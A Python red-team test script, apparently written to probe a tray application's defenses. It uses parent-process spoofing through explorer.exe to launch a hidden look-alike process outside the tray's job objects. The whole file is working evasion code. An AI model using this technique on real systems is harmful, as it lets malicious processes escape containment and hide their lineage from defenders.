"""Red team 14 (wine lane): run as a command of the tray, it starts rt13_squat.py (the look-alike of the
tray), or the script named by its second argument, with another process of the user as its parent
(PROC_THREAD_ATTRIBUTE_PARENT_PROCESS: any same-user process may), the first explorer.exe it finds
(the desktop's, outside every job), and exits. Its first argument is the file the started script
writes (rt13_squat.py: its pid), passed on as that script's only argument; what it did goes to stderr."""

from __future__ import annotations

import ctypes
import os
import sys
from ctypes import wintypes

kernel32 = ctypes.WinDLL("kernel32", use_last_error=True)
kernel32.OpenProcess.argtypes = [wintypes.DWORD, wintypes.BOOL, wintypes.DWORD]
kernel32.OpenProcess.restype = wintypes.HANDLE
kernel32.CreateToolhelp32Snapshot.restype = wintypes.HANDLE
PROCESS_CREATE_PROCESS = 0x0080
PROC_THREAD_ATTRIBUTE_PARENT_PROCESS = 0x00020000
EXTENDED_STARTUPINFO_PRESENT = 0x00080000
CREATE_NO_WINDOW = 0x08000000


class Entry(ctypes.Structure):
    _fields_ = [
        ("dwSize", wintypes.DWORD), ("cntUsage", wintypes.DWORD), ("th32ProcessID", wintypes.DWORD),
        ("th32DefaultHeapID", ctypes.c_size_t), ("th32ModuleID", wintypes.DWORD), ("cntThreads", wintypes.DWORD),
        ("th32ParentProcessID", wintypes.DWORD), ("pcPriClassBase", ctypes.c_long), ("dwFlags", wintypes.DWORD),
        ("szExeFile", ctypes.c_wchar * 260),
    ]  # fmt: skip


def explorer_pid() -> int:
    snap = kernel32.CreateToolhelp32Snapshot(2, 0)
    entry = Entry()
    entry.dwSize = ctypes.sizeof(Entry)
    ok = kernel32.Process32FirstW(snap, ctypes.byref(entry))
    while ok:
        if entry.szExeFile.lower() == "explorer.exe":
            return int(entry.th32ProcessID)
        ok = kernel32.Process32NextW(snap, ctypes.byref(entry))
    raise SystemExit("no explorer.exe")


class StartupInfo(ctypes.Structure):
    _fields_ = [
        ("cb", wintypes.DWORD), ("lpReserved", wintypes.LPWSTR), ("lpDesktop", wintypes.LPWSTR),
        ("lpTitle", wintypes.LPWSTR), *[(f"d{i}", wintypes.DWORD) for i in range(8)], ("wShowWindow", wintypes.WORD),
        ("cbReserved2", wintypes.WORD), ("lpReserved2", ctypes.c_void_p), ("hStdInput", wintypes.HANDLE),
        ("hStdOutput", wintypes.HANDLE), ("hStdError", wintypes.HANDLE),
    ]  # fmt: skip


class StartupInfoEx(ctypes.Structure):
    _fields_ = [("StartupInfo", StartupInfo), ("lpAttributeList", ctypes.c_void_p)]


class ProcessInformation(ctypes.Structure):
    _fields_ = [
        ("hProcess", wintypes.HANDLE),
        ("hThread", wintypes.HANDLE),
        ("pid", wintypes.DWORD),
        ("tid", wintypes.DWORD),
    ]


kernel32.UpdateProcThreadAttribute.argtypes = [
    ctypes.c_void_p, wintypes.DWORD, ctypes.c_size_t, ctypes.c_void_p, ctypes.c_size_t, ctypes.c_void_p, ctypes.c_void_p
]  # fmt: skip
kernel32.CreateProcessW.argtypes = [
    wintypes.LPCWSTR, wintypes.LPWSTR, ctypes.c_void_p, ctypes.c_void_p, wintypes.BOOL, wintypes.DWORD,
    ctypes.c_void_p, wintypes.LPCWSTR, ctypes.c_void_p, ctypes.c_void_p,
]  # fmt: skip

parent_pid = explorer_pid()
parent = wintypes.HANDLE(kernel32.OpenProcess(PROCESS_CREATE_PROCESS, False, parent_pid))
size = ctypes.c_size_t()
kernel32.InitializeProcThreadAttributeList(None, 1, 0, ctypes.byref(size))
attributes = ctypes.create_string_buffer(size.value)
kernel32.InitializeProcThreadAttributeList(attributes, 1, 0, ctypes.byref(size))
kernel32.UpdateProcThreadAttribute(
    attributes, 0, PROC_THREAD_ATTRIBUTE_PARENT_PROCESS, ctypes.byref(parent), ctypes.sizeof(parent), None, None
)
info = StartupInfoEx()
info.StartupInfo.cb = ctypes.sizeof(StartupInfoEx)
info.lpAttributeList = ctypes.cast(attributes, ctypes.c_void_p)
started = ProcessInformation()
squat = sys.argv[2] if len(sys.argv) > 2 else os.path.join(os.path.dirname(os.path.abspath(__file__)), "rt13_squat.py")
line = ctypes.create_unicode_buffer(f'"{sys.executable}" "{squat}" "{sys.argv[1]}"')
ok = kernel32.CreateProcessW(
    None, line, None, None, False, EXTENDED_STARTUPINFO_PRESENT | CREATE_NO_WINDOW, None, None,
    ctypes.byref(info), ctypes.byref(started),
)  # fmt: skip
error = ctypes.get_last_error()
said = f"parent {parent_pid} opened {bool(parent.value)} created {bool(ok)} error {error} pid {started.pid}"
print(said, file=sys.stderr)
